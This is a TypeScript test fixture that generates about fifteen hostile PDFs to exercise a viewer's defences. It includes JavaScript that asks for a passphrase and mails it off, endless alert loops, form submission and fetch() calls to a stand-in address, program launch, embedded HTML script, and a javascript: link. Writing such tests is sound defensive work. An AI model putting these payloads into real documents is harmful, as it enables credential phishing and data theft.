import { pdfOf, streamOf, type TestPdf } from './pdfOf.ts';

/** Address that a hostile PDF sends what it learned to; nothing listens there. */
const ELSEWHERE = 'http://127.0.0.1:9/taken';
const ASK = `app.response("Your session has ended. Type your passphrase", "Medseal", "", true)`;

/** Entries of the catalogue, and further objects from number 5 on, of each. The first further object is an annotation of the page. */
const TRICKS: Readonly<Record<string, readonly [catalogue: string, ...objects: string[]]>> = {
  'asks-for-the-passphrase': [
    `/OpenAction << /S /JavaScript /JS (${escaped(`var typed = ${ASK}; app.mailMsg(false, "x@example.org", "", "", typed);`)}) >>`,
  ],
  'alerts-without-end': [
    `/OpenAction << /S /JavaScript /JS (${escaped('while (true) app.alert("wait");')}) >>`,
  ],
  'alerts-by-name': [
    '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>',
    `<< /S /JavaScript /JS (${escaped('app.setInterval("app.alert(1)", 1);')}) >>`,
  ],
  'leaves-for-another-site': [`/OpenAction << /S /URI /URI (${ELSEWHERE}) >>`],
  'posts-a-form': [
    `/AcroForm << /Fields [5 0 R] >> /OpenAction << /S /SubmitForm /F << /FS /URL /F (${ELSEWHERE}) >> /Flags 4 >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (passphrase) /Rect [0 0 595 842] /V (typed) /P 3 0 R /AA << /K << /S /JavaScript /JS (${escaped('app.alert(event.change)')}) >> >> >>`,
  ],
  'is-a-form-of-xml': [
    '/AcroForm << /Fields [] /XFA 6 0 R >>',
    'null',
    streamOf(
      `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="a"><field name="passphrase"><ui><textEdit/></ui></field><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>`,
    ),
  ],
  'is-a-link-everywhere': [
    '',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${ELSEWHERE}) >> >>`,
  ],
  'is-a-link-that-is-a-program': [
    '',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:alert\\(document.domain\\)) >> >>',
  ],
  'starts-a-program': ['/OpenAction << /S /Launch /F (calculator) /NewWindow true >>'],
  'opens-a-document-elsewhere': [
    `/OpenAction << /S /GoToR /F << /FS /URL /F (${ELSEWHERE}) >> /D [0 /Fit] /NewWindow true >>`,
  ],
  'takes-data-from-elsewhere': [
    `/OpenAction << /S /ImportData /F << /FS /URL /F (${ELSEWHERE}) >> >>`,
  ],
  'brings-a-file': [
    '/Names << /EmbeddedFiles << /Names [(page.html) 6 0 R] >> >> /OpenAction << /S /GoToE /T << /R /C /N (page.html) >> /NewWindow true >>',
    '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 595 842] /FS 6 0 R >>',
    '<< /Type /Filespec /F (page.html) /EF << /F 7 0 R >> >>',
    streamOf('<script>top.document.title = "owned"</script>', '/Type /EmbeddedFile'),
  ],
  'plays-a-film': [
    '',
    `<< /Type /Annot /Subtype /RichMedia /Rect [0 0 595 842] /RichMediaContent << /Assets << /Names [(a.swf) 6 0 R] >> >> /RichMediaSettings << /Activation << /Condition /PO >> >> >>`,
    `<< /Type /Filespec /FS /URL /F (${ELSEWHERE}) >>`,
  ],
  'shows-a-rendition': [
    '/OpenAction << /S /Rendition /OP 0 /AN 5 0 R /R 6 0 R >>',
    '<< /Type /Annot /Subtype /Screen /Rect [0 0 595 842] >>',
    `<< /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F (${ELSEWHERE}) >> >> >>`,
  ],
  'has-its-content-elsewhere': [
    '',
    'null',
    `<< /Length 0 /F << /FS /URL /F (${ELSEWHERE}) >> >>\nstream\n\nendstream`,
  ],
  'has-a-program-in-a-font': [
    '',
    'null',
    `<< /Type /Font /Subtype /Type1 /BaseFont /Odd /FontMatrix [0.001 0 0 0.001 0 (0\\); fetch\\('${ELSEWHERE}'\\);//)] /FirstChar 65 /LastChar 65 /Widths [500] /FontDescriptor << /Type /FontDescriptor /FontName /Odd /Flags 4 /FontMatrix [0.001 0 0 0.001 0 (0\\); alert\\(1\\);//)] >> >>`,
  ],
};

/** PDFs that run programs, ask for secrets, send what is typed, or leave for another site. Each has one empty page. */
export const HOSTILE_PDFS: readonly TestPdf[] = Object.entries(TRICKS).map(
  ([name, [catalogue, ...further]]) => ({
    name: `${name}.pdf`,
    content: pdfOf([
      `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${name === 'has-its-content-elsewhere' ? 6 : 4} 0 R /Resources << /Font << /F1 ${name === 'has-a-program-in-a-font' ? '6 0 R' : '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'} >> >> /Annots [${further.length > 0 ? '5 0 R' : ''}] /AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >> >>`,
      streamOf('BT /F1 12 Tf 72 700 Td (A) Tj ET'),
      ...further,
    ]),
  }),
);

function escaped(script: string): string {
  return script.replaceAll(/[\\()]/g, String.raw`\$&`);
}
